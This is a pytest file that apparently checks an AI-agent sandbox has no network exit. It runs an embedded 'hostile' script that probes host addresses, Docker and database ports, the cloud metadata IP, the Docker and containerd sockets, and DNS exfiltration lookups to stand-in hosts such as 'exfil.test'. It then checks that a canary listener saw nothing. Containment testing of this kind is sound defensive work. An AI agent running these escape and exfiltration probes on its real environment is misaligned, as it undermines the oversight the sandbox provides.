"""Agents that try to get out (group network): with no network there is nothing to reach, and no packet."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from orchestrator.attempts import AttemptOrder
from scoring.vocabulary import Reason

pytestmark = pytest.mark.docker

Hostile = Callable[..., AttemptOrder]

CONNECTS = """
import socket, glob, os
reached = []
for host, port in {targets}:
    try:
        socket.create_connection((host, port), 1).close()
        reached.append((host, port))
    except OSError:
        pass
for name in ("ZGF0YQ.exfil.test", "localhost.exfil.test", "host.docker.internal"):
    try:
        reached.append(socket.gethostbyname(name))
    except OSError:
        pass
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"x", ("192.0.2.1", 53))
    reached.append("udp")
except OSError:
    pass
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
    if os.path.exists(path):
        reached.append(path)
if sorted(os.listdir("/sys/class/net")) != ["lo"]:
    reached.append("interface")
print(reached)
if not reached:
    open("/tmp/out.txt", "w").write("closed")
"""
CLOSED = '[ "$(cat /tmp/out.txt)" = closed ]; echo $(( ! $? )) > /logs/verifier/reward.txt'


@pytest.fixture
def listener() -> Iterator[tuple[int, list[object]]]:
    """A canary on every address of this host: (port, connections seen)."""
    seen: list[object] = []
    with socket.create_server(("0.0.0.0", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    connection, address = server.accept()
                except OSError:
                    return
                seen.append(address)
                connection.close()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield server.getsockname()[1], seen
        server.shutdown(socket.SHUT_RDWR)
        thread.join(5)


def host_addresses() -> list[str]:
    """Addresses of this host that a container on a bridge could reach."""
    found = {"172.17.0.1", "127.0.0.1", "10.213.10.1", "169.254.169.254"}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            found.add(probe.getsockname()[0])
        except OSError:
            pass  # a host without a route has no further address
    return sorted(found)


def test_nothing_is_reachable(siege: Any, hostile: Hostile, listener: tuple[int, list[object]]) -> None:
    """net-direct-ip, net-dns-exfil, net-gateway: an agent that finds every door closed can prove it (L9)."""
    port, seen = listener
    targets = [(host, p) for host in host_addresses() for p in (port, 2375, 5432, 6379, 22)]
    targets += [("192.0.2.1", 443), ("1.1.1.1", 53)]
    script = CONNECTS.format(targets=targets)
    report = siege.run(hostile(script, CLOSED, python=True))
    assert report.decision.reason is Reason.ALL_CHECKS_PASSED, "something was reachable"
    assert seen == []
